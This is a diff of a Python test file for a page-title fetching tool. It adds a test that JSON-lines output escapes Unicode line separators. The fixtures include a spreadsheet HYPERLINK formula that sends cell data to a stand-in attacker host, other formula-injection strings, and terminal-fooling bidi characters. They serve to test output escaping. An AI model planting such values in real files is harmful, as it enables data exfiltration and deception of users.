@@ -30,6 +30,7 @@ PAGES = {  # path: (Content-Type header or None, body)
                  b'<title>=HYPERLINK("http://evil.example/?x="&A1,"Click")</title>'),
     "/bidi-rest": (b"text/html; charset=utf-8",
                    "<title>p\u2029q\u2067r\u2068s\u2069t</title>".encode()),
+    "/breaks": (b"text/html; charset=utf-8", "<title>a\u2028b\u2029c\x85d</title>".encode()),
     "/plus": (b"text/html", b"<title>+1+2</title>"),
     "/minus": (b"text/html", b"<title>-2+3</title>"),
     "/at": (b"text/html", b"<title>@SUM(A1)</title>"),
@@ -139,6 +140,17 @@ def test_text_output_escapes_what_could_fool_the_terminal():
     r = cafe("titles", "-q", listing(["/bidi-rest"]))
     assert r.stdout.decode() == ("'p\\u2029q\\u2067r\\u2068s\\u2069t' from "
                                  + srv.url("/bidi-rest") + "\n"), r.stdout
+
+
+def test_json_lines_split_only_at_their_newlines():
+    # U+2028, U+2029 and U+0085 are legal raw in a JSON string, but Python's splitlines()
+    # (and other line readers) end a line there: each record was split into halves that are
+    # not JSON. Escaped as \uNNNN, as Go's encoding/json does; the title is the same.
+    r = cafe("titles", "-q", "--json", listing(["/breaks", "/html"]))
+    assert r.returncode == 0, r.stderr
+    lines = r.stdout.decode().splitlines()
+    assert len(lines) == 2 and "\\u2028" in lines[0] and "\\u0085" in lines[0], lines
+    assert json.loads(lines[0])["title"] == "a\u2028b\u2029c\x85d", lines[0]
 
 
 def test_csv_safe_quotes_formulas_only_when_asked():
